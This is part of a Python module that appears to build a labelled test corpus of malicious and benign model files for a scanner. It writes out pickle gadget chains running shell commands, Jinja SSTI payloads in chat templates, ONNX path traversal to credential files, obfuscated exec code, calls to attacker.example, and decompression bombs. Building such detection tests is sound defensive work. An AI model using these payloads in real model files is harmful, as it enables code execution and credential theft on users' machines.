    ("doctest-debug-script", _evil_call("doctest", "debug_script", SRC),
     "doctest.debug_script execs a source string"),
    ("pydoc-pipepager", _evil_call("pydoc", "pipepager", "x", CMD),
     "pydoc.pipepager runs a shell command"),
    ("osx-support-read-output", _evil_call("_osx_support", "_read_output", CMD),
     "_osx_support._read_output runs os.system on any platform"),
    ("mailcap-findmatch", _evil_call("mailcap", "findmatch",
                                     {"a/b": [{"view": "x", "test": CMD}]}, "a/b"),
     "mailcap.findmatch runs the 'test' command of a caps entry"),
    ("distutils-spawn", _evil_call("distutils.spawn", "spawn", ["sh", "-c", CMD]),
     "distutils.spawn.spawn starts a process"),
    ("setuptools-distutils-spawn", _evil_call("setuptools._distutils.spawn", "spawn",
                                              ["sh", "-c", CMD]),
     "setuptools' vendored distutils spawn"),
    ("distutils-run-setup", _evil_call("distutils.core", "run_setup", f"{SITE}/setup.py"),
     "distutils.core.run_setup execs a script"),
    ("imp-load-source", _evil_call("imp", "load_source", "x", f"{SITE}/x.py"),
     "imp.load_source imports a file"),
    ("numpy-ctypeslib-load-library", _evil_call("numpy.ctypeslib", "load_library", "libevil",
                                                SITE),
     "numpy.ctypeslib.load_library dlopens a shared library"),
    ("numpy-memmap-w", _evil_call("numpy", "memmap", "/root/.bashrc", "uint8", "w+", 0, (1,)),
     "numpy.memmap mode 'w+' creates/truncates a file"),
    ("zipfile-zipfile-w", _evil_call("zipfile", "ZipFile", "/root/.bashrc", "w"),
     "zipfile.ZipFile mode 'w' truncates a file"),
    ("logging-filehandler", _evil_call("logging", "FileHandler", "/root/.bashrc", "w"),
     "logging.FileHandler mode 'w' truncates a file"),
    ("torch-import-dotted-name", pk(apply(call("torch._utils", "_import_dotted_name",
                                               "os.system"), CMD)),
     "torch._utils._import_dotted_name('os.system'), then called"),
    ("torch-fx-reduce-graph-module", _evil_call(
        "torch.fx.graph_module", "reduce_graph_module",
        {"_code": "\ndef forward(self):\n    pass\n", "_graphmodule_cls_name": "G"},
        f"import os\nos.system({CMD!r})\n"),
     "torch.fx.graph_module.reduce_graph_module execs its import block"),
    ("torch-fx-forward-from-src", _evil_call(
        "torch.fx.graph_module", "_forward_from_src",
        f"import os\nos.system({CMD!r})\ndef forward(self):\n    pass\n", {}),
     "torch.fx.graph_module._forward_from_src execs source"),
    ("torch-storage-load-from-bytes", _evil_call("torch.storage", "_load_from_bytes", EVIL_P2),
     "torch.storage._load_from_bytes is torch.load(weights_only=False) of nested bytes"),
    ("torch-load-nested", _evil_call("torch", "load", f"{SITE}/x.pt", None, None, False),
     "nested torch.load(weights_only=False)"),
    ("torch-ops-load-library", _evil_call("torch", "ops.load_library", f"{SITE}/libevil.so"),
     "torch.ops.load_library (dotted STACK_GLOBAL) dlopens a library"),
    ("torch-model-zoo-load-url", _evil_call("torch.utils.model_zoo", "load_url",
                                            "https://attacker.example/x.pt"),
     "torch.utils.model_zoo.load_url downloads and torch.loads"),
    ("numpy-load-allow-pickle", _evil_call("numpy", "load", f"{SITE}/x.npy", None, True),
     "nested numpy.load(allow_pickle=True)"),
    ("numpy-format-read-array", _evil_call("numpy.lib.format", "read_array",
                                           f"{SITE}/x.npy", True),
     "numpy.lib.format.read_array(allow_pickle=True): nested pickle"),
    ("pickle-loads-nested", _evil_call("pickle", "loads", EVIL_P2), "nested pickle.loads"),
    ("c-pickle-loads-nested", _evil_call("_pickle", "loads", EVIL_P2),
     "nested _pickle.loads"),
    ("pandas-read-pickle", _evil_call("pandas", "read_pickle", f"{SITE}/x.pkl"),
     "pandas.read_pickle: nested pickle load"),
    ("yaml-unsafe-load", _evil_call("yaml", "unsafe_load",
                                    f"!!python/object/apply:os.system [{CMD!r}]"),
     "yaml.unsafe_load of a python/object/apply tag"),
    ("keras-load-model-unsafe", _evil_call("keras.models", "load_model", f"{SITE}/x.keras",
                                           None, True, False),
     "keras load_model with safe_mode=False"),
    ("transformers-remote-code", _evil_call(
        "transformers.dynamic_module_utils", "get_class_from_dynamic_module",
        "modeling.Evil", "attacker/repo"),
     "transformers get_class_from_dynamic_module downloads and imports code"),
    ("sympy-sympify", _evil_call("sympy", "sympify", SRC), "sympy.sympify evals a string"),
    ("operator-methodcaller-chain", pk(apply(
        call("operator", "methodcaller", "execlp", "sh", "sh", "-c", CMD),
        call("torch._utils", "_import_dotted_name", "os"))),
     "operator.methodcaller('execlp', ...) applied to a module from _import_dotted_name"),
    ("operator-attrgetter-chain", pk(apply(apply(
        call("operator", "attrgetter", "getoutput"),
        call("torch._utils", "_import_dotted_name", "subprocess")), CMD)),
     "operator.attrgetter('getoutput') on a module object, then called"),
    ("builtins-getattr-import", pk(apply(call("builtins", "getattr",
                                              call("builtins", "__import__", "subprocess"),
                                              "getoutput"), CMD)),
     "builtins.getattr(__import__('subprocess'), 'getoutput')(cmd)"),
    ("functools-partial-os-system", pk(apply(call("functools", "partial",
                                                  stack_global("os", "system"), CMD))),
     "functools.partial(os.system, cmd)()"),
    ("functools-partial-unknown", pk(apply(call(
        "functools", "partial", stack_global("uuid", "_get_command_stdout"), "sh", "-c",
        CMD))),
     "functools.partial(uuid._get_command_stdout, ...)(): both names only 'unknown'"),
    ("timeit-timeit", _evil_call("timeit", "timeit", SRC, "pass", None, 1),
     "timeit.timeit runs a statement"),
    ("code-interactive-interpreter", pk(apply(
        stack_global("code", "InteractiveInterpreter.runsource"),
        call("code", "InteractiveInterpreter"), SRC)),
     "code.InteractiveInterpreter().runsource(src)"),
    ("cprofile-run", _evil_call("cProfile", "run", SRC), "cProfile.run execs a statement"),
    ("pty-spawn", _evil_call("pty", "spawn", "/bin/sh"), "pty.spawn a shell"),
    ("asyncio-subprocess-shell", pk(call("asyncio", "run", call(
        "asyncio.subprocess", "create_subprocess_shell", CMD))),
     "asyncio.run(asyncio.subprocess.create_subprocess_shell(cmd))"),
    ("ctypes-cdll", _evil_call("ctypes", "CDLL", f"{SITE}/libevil.so"),
     "ctypes.CDLL loads a shared library"),
    ("shutil-rmtree", _evil_call("shutil", "rmtree", "/home/user"), "shutil.rmtree a folder"),
    ("webbrowser-open", _evil_call("webbrowser", "open", "https://attacker.example/"),
     "webbrowser.open a URL"),
    ("socket-create-connection", _evil_call("socket", "create_connection",
                                            ("attacker.example", 4444)),
     "socket.create_connection out"),
    ("socketserver-bind", _evil_call("socketserver", "TCPServer", ("0.0.0.0", 4444),
                                     stack_global("socketserver", "BaseRequestHandler")),
     "socketserver.TCPServer binds a port"),
    ("requests-get", _evil_call("requests", "get", "https://attacker.example/beacon"),
     "requests.get beacon"),
    ("urllib-urlopen", _evil_call("urllib.request", "urlopen", "https://attacker.example/"),
     "urllib.request.urlopen beacon"),
    ("poplib-connect", _evil_call("poplib", "POP3", "attacker.example"),
     "poplib.POP3 connects out"),
    ("xml-sax-parse-url", _evil_call("xml.sax", "parse", "https://attacker.example/x.xml",
                                     call("xml.sax.handler", "ContentHandler")),
     "xml.sax.parse fetches a URL"),
    ("huggingface-hub-download", _evil_call("huggingface_hub", "hf_hub_download",
                                            "attacker/repo", "payload.py"),
     "huggingface_hub.hf_hub_download fetches a file"),
    ("thread-start-new-thread", _evil_call("_thread", "start_new_thread", stack_global(
        "_osx_support", "_read_output"), (CMD,)),
     "_thread.start_new_thread(_osx_support._read_output, (cmd,))"),
    ("atexit-register", _evil_call("atexit", "register", stack_global(
        "uuid", "_get_command_stdout"), "sh", "-c", CMD),
     "atexit.register(uuid._get_command_stdout, ...): runs at exit"),
    ("weakref-finalize", _evil_call("weakref", "finalize", call("argparse", "Namespace"),
                                    stack_global("_osx_support", "_read_output"), CMD),
     "weakref.finalize(Namespace(), _read_output, cmd): runs when collected"),
    ("antigravity-import", _evil_call("antigravity", "geohash", 37.4, 122.1, b"2005-05-26"),
     "importing antigravity opens a web browser (import side effect)"),
)


def class6(c: _Corpus) -> None:
    c.klass = 6
    for name, data, description in DANGEROUS:
        c.add(f"callable.{name}", "model.pkl", data, HIGH, description)
    c.twin("callable.uuid", "model.pkl",
           _evil_call("uuid", "UUID", "12345678123456781234567812345678"),
           "uuid.UUID('...'): the safe name of the same module")
    c.twin("callable.numpy-dtype", "model.pkl", _evil_call("numpy", "dtype", "f4"),
           "numpy.dtype('f4')")
    words = {"doc": "never call os.system or subprocess.Popen", "vocab": ["eval", "exec"]}
    c.twin("callable.strings-that-look-dangerous", "model.pkl", pickle.dumps(words, protocol=4),
           "plain strings naming dangerous functions (data, not imports)")
    c.twin("callable.builtins-str", "model.pkl", _evil_call("builtins", "str", CMD),
           "builtins.str(text)")
    c.twin("callable.logging-getlogger", "model.pkl",
           _evil_call("logging", "getLogger", "train"),
           "logging.getLogger('train'): unknown but harmless", NOT_HIGH)


# --- 7. other formats ----------------------------------------------------------------------
CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + "
    "message['content'] + '<|im_end|>' + '\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)
LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'"
    "+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}"
    "{% endif %}"
)
SSTI = {
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "cycler-popen": "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}",
    "catch-warnings": (
        "{% for c in ().__class__.__base__.__subclasses__() %}"
        "{% if c.__name__ == 'catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').system('" + CMD + "') }}"
        "{% endif %}{% endfor %}"
    ),
    "attr-filter-escapes": (
        "{{ (lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].popen('" + CMD + "').read() }}"
    ),
    "string-concat": (
        "{{ cycler['__in'~'it__']['__glo'~'bals__']['o'~'s'].popen('" + CMD + "').read() }}"
    ),
    "joiner-globals": "{{ joiner.__init__.__globals__.os.system('" + CMD + "') }}",
}


def _gguf(template: str, extra: dict[str, Any] | None = None) -> bytes:
    meta: dict[str, Any] = {
        "general.architecture": "llama", "general.name": "tiny", "general.alignment": 32,
        "tokenizer.ggml.model": "gpt2",
        "tokenizer.ggml.tokens": ["<|im_start|>", "<|im_end|>", "a", "b"],
        "tokenizer.chat_template": template,
    }
    return gguf_file({**meta, **(extra or {})})


def _tokenizer_config(template: Any) -> dict[str, Any]:
    return {
        "add_bos_token": True, "bos_token": "<|begin_of_text|>", "eos_token": "<|eot_id|>",
        "model_max_length": 8192, "tokenizer_class": "PreTrainedTokenizerFast",
        "chat_template": template,
    }


def _inject(payload: str) -> str:
    """A ChatML template with ``payload`` inside the message loop."""
    return CHATML.replace("{% endfor %}", payload + "{% endfor %}", 1)


def _keras_text(layer_json: str) -> bytes:
    """config.json text with the layer object spliced in verbatim (escapes kept)."""
    head = '{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": ['
    return (head + layer_json + "]}}").encode()


def _onnx_branch(name: str, location: str | None) -> bytes:
    return onnx_graph(name, [onnx_node("Identity", ["w"], ["y"])], [onnx_tensor("w", location)])


def _onnx_if(location: str) -> bytes:
    node = onnx_node("If", ["cond"], ["y"], [
        onnx_graph_attr("then_branch", _onnx_branch("then", location)),
        onnx_graph_attr("else_branch", _onnx_branch("else", None))])
    return onnx_model(onnx_graph("main", [node]))


def class7(c: _Corpus) -> None:
    c.klass = 7
    for key in ("subclasses", "cycler-popen", "attr-filter-escapes", "string-concat"):
        c.add(f"gguf.chat-template-{key}", "model.gguf", _gguf(_inject(SSTI[key])), HIGH,
              f"GGUF tokenizer.chat_template with Jinja SSTI ({key})")
    c.add("gguf.named-template-ssti", "model.gguf", _gguf(CHATML, {
        "tokenizer.chat_template.tool_use": _inject(SSTI["catch-warnings"])}), HIGH,
        "GGUF named template tokenizer.chat_template.tool_use with SSTI")
    c.twin("gguf.chat-template", "model.gguf", _gguf(CHATML), "GGUF with a ChatML template")
    c.twin("gguf.chat-template-llama3", "model.gguf", GENERATED / "llama3_chat.gguf",
           "real GGUF (gguf.GGUFWriter) with the Llama-3 chat template")
    cfg = "tokenizer_config.json"
    c.add("tokcfg.chat-template-catch-warnings", cfg,
          json_bytes(_tokenizer_config(_inject(SSTI["catch-warnings"]))), HIGH,
          "tokenizer_config.json chat_template reaching __builtins__ via catch_warnings")
    escaped = json.dumps(_tokenizer_config(_inject(SSTI["cycler-popen"])), indent=2)
    c.add("tokcfg.chat-template-json-escaped", cfg,
          escaped.replace("__", "\\u005f\\u005f").encode(), HIGH,
          "chat_template SSTI with every '__' written as JSON \\u005f escapes")
    c.add("tokcfg.chat-template-list", cfg, json_bytes(_tokenizer_config([
        {"name": "default", "template": CHATML},
        {"name": "tool_use", "template": _inject(SSTI["joiner-globals"])}])), HIGH,
        "chat_template in list form; the 'tool_use' entry has SSTI")
    c.add("tokcfg.chat-template-jinja-file", "chat_template.jinja",
          _inject(SSTI["string-concat"]).encode(), HIGH,
          "chat_template.jinja (transformers' separate template file) with SSTI")
    c.twin("tokcfg.chat-template", cfg, json_bytes(_tokenizer_config(LLAMA3)),
           "tokenizer_config.json with the Llama-3 template")
    c.add("tokcfg.chat-template-format-field", cfg, json_bytes(_tokenizer_config(_inject(
        "{{ '{0.__init__.__globals__[os]}'.format(cycler) }}"))), HIGH,
        "chat_template reaching globals through a str.format field")
    c.add("gguf.chat-template-long", "model.gguf",
          _gguf(CHATML + "{# " + "x" * 5000 + " #}" + SSTI["subclasses"]), HIGH,
          "GGUF chat template of 5 KB with the SSTI at its end")
    c.twin("tokcfg.chat-template-jinja-file", "chat_template.jinja", CHATML.encode(),
           "chat_template.jinja with the ChatML template")
    relu = onnx_node("Relu", ["x"], ["y"])
    c.add("onnx.sparse-initializer-external", "model.onnx", onnx_model(onnx_graph(
        "main", [relu], sparse=[onnx_sparse("../../../../etc/passwd")])), HIGH,
        "sparse_initializer values stored as external data at ../../../../etc/passwd")
    c.add("onnx.if-subgraph-external", "model.onnx", _onnx_if("/etc/passwd"), HIGH,
          "If then_branch initializer with external data at /etc/passwd")
    loop = onnx_node("Loop", ["n", "cond"], ["y"], [
        onnx_graph_attr("body", _onnx_branch("body", "../../../../root/.ssh/id_rsa"))])
    c.add("onnx.loop-body-external", "model.onnx", onnx_model(onnx_graph("main", [loop])), HIGH,
          "Loop body initializer with external data at ../../../../root/.ssh/id_rsa")
    const = onnx_node("Constant", [], ["y"], [
        onnx_tensor_attr("value", onnx_tensor("c", "../../../../proc/self/environ"))])
    c.add("onnx.constant-attr-external", "model.onnx", onnx_model(onnx_graph("main", [const])),
          HIGH, "Constant node tensor attribute with external data outside the folder")
    sparse_attr = pb(1, "sparse_value") + pb(22, onnx_sparse("/etc/shadow")) + pb(20, 11)
    c.add("onnx.constant-sparse-attr-external", "model.onnx", onnx_model(onnx_graph(
        "main", [onnx_node("Constant", [], ["y"], [sparse_attr])])), HIGH,
        "Constant node sparse_value attribute whose values are external data at /etc/shadow")
    c.twin("onnx.sparse-initializer-external", "model.onnx", onnx_model(onnx_graph(
        "main", [relu], sparse=[onnx_sparse("weights.bin")])),
        "sparse initializer with external data beside the model")
    c.twin("onnx.if-subgraph-external", "model.onnx", _onnx_if("weights.bin"),
           "If subgraph initializer with external data beside the model")
    lam = json.dumps(keras_config()["config"]["layers"][0])
    c.add("keras.lambda-unicode-escape", "model.keras",
          keras_zip(_keras_text(lam.replace('"Lambda"', '"L\\u0061mbda"'))), HIGH,
          '.keras config.json spelling the class "L\\u0061mbda"')
    c.add("keras.lambda-key-escape", "model.keras",
          keras_zip(_keras_text(lam.replace('"class_name"', '"cl\\u0061ss_name"'))), HIGH,
          '.keras config.json spelling the key "cl\\u0061ss_name"')
    c.add("keras.h5-spaced-lambda", "model.h5", GENERATED / "keras_spaced_lambda.h5", HIGH,
          "Keras .h5 model_config indented, ' : ' separators, Lambda layer")
    c.add("keras.h5-escaped-lambda", "model.h5", GENERATED / "keras_escaped_lambda.h5", HIGH,
          'Keras .h5 model_config with "L\\u0061mbda"')
    c.add("keras.h5-keyorder-lambda", "model.h5", GENERATED / "keras_keyorder_lambda.h5", HIGH,
          "Keras .h5 model_config with class_name last in every object")
    dense = json.dumps(keras_config("Dense")["config"]["layers"][0])
    c.twin("keras.escaped-dense", "model.keras",
           keras_zip(_keras_text(dense.replace('"Dense"', '"D\\u0065nse"'))),
           '.keras config.json spelling "D\\u0065nse" (benign escape)')
    c.twin("keras.h5-spaced-lambda", "model.h5", GENERATED / "keras_spaced_clean.h5",
           "Keras .h5 with an indented Dense config")
    c.add("npy.descr-object-word", "array.npy", npy("'object'", (2,), EVIL_P2), HIGH,
          "npy header descr 'object' (no capital O), malicious pickle body")
    c.add("npy.descr-nested-struct-object", "array.npy",
          npy("[('a', '<i4'), ('b', [('c', '|O')])]", (1,), EVIL_P2), HIGH,
          "npy structured dtype with an object field nested one level down")
    c.add("npy.descr-struct-object-word", "array.npy",
          npy("[('a', '<i4'), ('b', 'object')]", (1,), EVIL_P2), HIGH,
          "npy structured dtype with an 'object' field")
    c.add("npy.header-over-cap", "array.npy",
          npy("'|O'", (2,), EVIL_P2, version=2, pad=(1 << 20) + 4096), HIGH,
          "npy v2 header padded past 1 MiB (np.load(allow_pickle=True) ignores the cap)")
    c.twin("npy.plain-float", "array.npy", npy("'<f4'", (4,), b"\x00" * 16), "float32 npy")
    c.twin("npy.struct-no-object", "array.npy",
           npy("[('a', '<i4'), ('b', '<f8')]", (1,), b"\x00" * 12),
           "structured npy without object fields")


# --- 8. shipped Python that hides its calls -----------------------------------------------
_B64 = base64.b64encode(f"import os; os.system({CMD!r})".encode()).decode()
CODE: dict[str, str] = {
    "import-concat": f'__import__("o" + "s").system("{CMD}")\n',
    "importlib-variable": (
        "import importlib\n\n"
        '_name = "".join(["o", "s"])\n'
        f'importlib.import_module(_name).system("{CMD}")\n'
    ),
    "getattr-concat": f'import os\n\ngetattr(os, "sys" + "tem")("{CMD}")\n',
    "from-import-alias": f'from os import system as run_cmd\n\nrun_cmd("{CMD}")\n',
    "subprocess-alias": (
        f'import subprocess as sp\nfrom subprocess import getoutput as go\n\ngo("{CMD}")\n'
        f'sp.call(["sh", "-c", "{CMD}"])\n'
    ),
    "noqa-nosec": f'import os\n\nos.system("{CMD}")  # noqa: S605 # nosec B605\n',
    "exec-base64": f'import base64\n\nexec(base64.b64decode("{_B64}"))  # noqa\n',
    "builtins-vars": (
        f'import builtins\n\nvars(builtins)["ex" + "ec"]("import os; os.system({CMD!r})")\n'
    ),
    "pickle-alias": (
        "from pickle import loads as restore\n\n\n"
        "def load_weights(blob):\n    return restore(blob)\n"
    ),
}
MODEL_HEAD = (
    '"""Modeling code shipped with the checkpoint."""\n\n'
    "import torch\n\n\n"
    "class TinyModel(torch.nn.Module):\n"
    "    def __init__(self):\n"
    "        super().__init__()\n"
    "        self.linear = torch.nn.Linear(4, 2)\n\n"
    "    def forward(self, x):\n"
    "        return self.linear(x)\n\n\n"
)


def class8(c: _Corpus) -> None:
    c.klass = 8
    for name, body in CODE.items():
        c.add(f"py.{name}", "modeling_tiny.py", (MODEL_HEAD + body).encode(), HIGH,
              f"shipped Python: {body.strip().splitlines()[-1][:70]}")
    c.twin("py.modeling", "modeling_tiny.py", (
        MODEL_HEAD + "import logging\nimport os\n\n"
        "logger = logging.getLogger(__name__)\n"
        'WEIGHTS = os.path.join(os.path.dirname(__file__), "model.safetensors")  # noqa: E501\n'
    ).encode(), "ordinary modeling code: os.path, logging, a noqa comment")
    c.twin("py.dynamic-but-benign", "modeling_tiny.py", (
        MODEL_HEAD + "import importlib.util\n\n"
        'HAS_FLASH = importlib.util.find_spec("flash_attn") is not None\n'
        'ACT = getattr(torch.nn, "ReLU")()\n'
    ).encode(), "find_spec and getattr on torch.nn: dynamic but harmless")


# --- 9. unverifiable -----------------------------------------------------------------------
def class9(c: _Corpus) -> None:
    c.klass = 9
    head = proto(2) + glob("os", "system")
    c.add("unverif.truncated-after-global", "model.pkl", head + b"X\x13\x00\x00\x00echo", HIGH,
          "pickle cut after GLOBAL os.system, inside its argument")
    big = proto(4) + text("x" * 100_000) + b"0" + bytes(stack_global("posix", "system"))
    c.add("unverif.truncated-late", "model.pkl", big + text(CMD)[:6], HIGH,
          "100 KB of data, STACK_GLOBAL posix.system, then the file ends")
    junk = proto(2) + b"}q\x00(X\x01\x00\x00\x00a\xff\xfe" + bytes(range(200, 256)) * 4
    c.add("unverif.unparseable", "model.pkl", junk, HIGH,
          "starts like a pickle, then invalid opcodes")
    deflate64 = [Entry("archive/data.pkl", EVIL_P2, method=9, stored=bytes(range(64)))]
    c.add("unverif.zip-deflate64-member", "model.pt", plain_zip(deflate64), HIGH,
          "data.pkl with compression method 9 (deflate64): no stdlib reader")
    obj = npy("'|O'", (2,), EVIL_P2)
    zstd = [Entry("o.npy", obj, method=93, stored=zstd_raw_frame(obj))]
    c.add("unverif.zip-zstd-member", "arrays.npz", plain_zip(zstd), HIGH,
          "npz member with method 93 (zstd, read by Python 3.14's zipfile): object array")
    crc = int.from_bytes(Entry("archive/data.pkl", EVIL_P2).central(0)[16:20], "little")
    crypt = zip_crypto(EVIL_P2, b"infected", crc)
    c.add("unverif.zip-zipcrypto", "model.pt", plain_zip([
        Entry("archive/data.pkl", EVIL_P2, flags=1, stored=crypt),
        Entry("archive/version", b"3\n")]), HIGH,
        "data.pkl really encrypted with ZipCrypto (password 'infected')")
    c.add("unverif.7z-encrypted", "model.7z", GENERATED / "encrypted_pickle.7z", HIGH,
          "7z with AES-encrypted headers and a malicious data.pkl (py7zr)")
    c.add("unverif.7z-plain", "model.7z", GENERATED / "plain_pickle.7z", HIGH,
          "7z (LZMA2, not encrypted) holding a malicious data.pkl")
    c.add("unverif.rar5-encrypted", "model.rar", rar5_encrypted(), HIGH,
          "RAR5 with an archive-encryption header: nothing inside is readable")
    c.twin("unverif.truncated-after-global", "model.pkl", BENIGN_P4,
           "a complete benign pickle")
    c.twin("unverif.zip-readable", "model.pt", torch_zip(torch_state()),
           "stored torch zip, every member readable")


# fmt: on


# --- bombs ---------------------------------------------------------------------------------
def _overlap_zip() -> bytes:
    """1000 directory entries all pointing at one ~1 MB member that inflates to 1 GiB of
    pickle opcodes (1 TiB in all)."""
    stream = RepeatedDeflate([Piece(proto(4)), Piece(b"N0" * (1 << 19), 1024), Piece(b".")])
    entry = Entry("archive/data.pkl", b"", method=8, stored=stream.raw(), crc=stream.crc)
    local = bytearray(entry.local())
    struct.pack_into("<I", local, 22, stream.size & 0xFFFFFFFF)  # uncompressed size
    central = bytearray(entry.central(0))
    struct.pack_into("<I", central, 24, stream.size & 0xFFFFFFFF)
    directory = bytes(central) * 1000
    return bytes(local) + directory + eocd(1000, len(directory), len(local))


def _targz_4gb(path: Path) -> None:
    """tar.gz: a 4 GiB all-zero weights.bin (4 MB compressed), then a malicious data.pkl."""
    big = tarfile.TarInfo("weights.bin")
    big.size, big.mtime, big.mode = 4 << 30, 0, 0o644
    small = tarfile.TarInfo("data.pkl")
    small.size, small.mtime, small.mode = len(EVIL_P2), 0, 0o644
    tail = small.tobuf(tarfile.GNU_FORMAT) + EVIL_P2 + b"\x00" * (-len(EVIL_P2) % 512)
    stream = RepeatedDeflate(
        [
            Piece(big.tobuf(tarfile.GNU_FORMAT)),
            Piece(b"\x00" * (64 << 20), 64),
            Piece(tail + b"\x00" * 1024),
        ]
    )
    with path.open("wb") as handle:
        handle.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
        for chunk in stream.chunks():
            handle.write(chunk)
        handle.write(struct.pack("<II", stream.crc, stream.size & 0xFFFFFFFF))


def _joblib_6gb(path: Path) -> None:
    """zlib joblib: BINBYTES8 of 6 GiB zeros, POP, then os.system (6 MB on disk)."""
    tail = b"0" + bytes(call("os", "system", CMD)) + b"."
    stream = RepeatedDeflate(
        [
            Piece(proto(4) + b"\x8e" + struct.pack("<Q", 6 << 30)),
            Piece(b"\x00" * (64 << 20), 96),
            Piece(tail),
        ]
    )
    with path.open("wb") as handle:
        handle.write(b"\x78\xda")
        for chunk in stream.chunks():
            handle.write(chunk)
        handle.write(struct.pack(">I", stream.adler))


def _safetensors_huge(path: Path, count: int = 1_400_000, size: int = 99_000_000) -> None:
    """Valid safetensors: a 99 MB JSON header of 1.4 M one-byte U8 tensors (sparse data)."""
    parts, total = ['{"__metadata__":{"format":"pt"}'], 0
    for i in range(count):
        parts.append(f',"t{i}":{{"dtype":"U8","shape":[1],"data_offsets":[{i},{i + 1}]}}')
    parts.append("}")
    header = "".join(parts).encode()
    assert len(header) <= size, len(header)
    header += b" " * (size - len(header))
    total = 8 + len(header) + count
    with path.open("wb") as handle:
        handle.write(struct.pack("<Q", len(header)))
        handle.write(header)
        handle.truncate(total)


def bombs(c: _Corpus) -> None:
    c.klass = "bomb"
    overlap = _overlap_zip()
    c.add(
        "bomb.zip-overlap",
        "model.zip",
        overlap,
        HIGH,
        "1000 overlapping entries over one member inflating to 1 GiB each (~1 MB file)",
    )
    c.add(
        "bomb.zip-overlap-nested",
        "model.zip",
        zip_of({"inner/model.zip": overlap}),
        HIGH,
        "the overlapping-entry zip stored inside another zip",
    )
    c.add(
        "bomb.targz-4gb-member",
        "model.tar.gz",
        _targz_4gb,
        HIGH,
        "tar.gz with a 4 GiB zero member (~4 MB file), then a malicious data.pkl",
    )
    c.add(
        "bomb.joblib-zlib-6gb",
        "model.joblib",
        _joblib_6gb,
        HIGH,
        "zlib joblib inflating to 6 GiB before an os.system call (~6 MB file)",
    )
    c.add(
        "bomb.safetensors-huge-header",
        "model.safetensors",
        _safetensors_huge,
        NOT_HIGH,
        "valid safetensors with a 99 MB header of 1.4 M tensors",
        malicious=False,
    )


def build_attack_corpus(dest: Path, include_bombs: bool = True) -> list[Sample]:
    """Write every sample under ``dest``; bombs (~120 MB, sparse) only if asked."""
    corpus = _Corpus(Path(dest))
    for make in (class1, class2, class3, class4, class5, class6, class7, class8, class9):
        make(corpus)
    if include_bombs:
        bombs(corpus)
    paths = [s.path for s in corpus.samples]
    assert len(set(paths)) == len(paths), "duplicate sample paths"
    techniques = [s.technique for s in corpus.samples]
    assert len(set(techniques)) == len(techniques), "duplicate techniques"
    return corpus.samples


def summary(samples: list[Sample]) -> dict[int | str, tuple[int, int]]:
    """{class: (malicious, benign)} counts."""
    out: dict[int | str, tuple[int, int]] = {}
    for klass in CLASSES:
        group = [s for s in samples if s.klass == klass]
        out[klass] = (sum(s.malicious for s in group), sum(not s.malicious for s in group))
    return out


if __name__ == "__main__":  # pragma: no cover - manual use
    import sys
    import tempfile

    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(tempfile.mkdtemp(prefix="atk-"))
    built = build_attack_corpus(target, include_bombs="--bombs" in sys.argv)
    print(target, len(built), summary(built), os.linesep.join(s.technique for s in built))
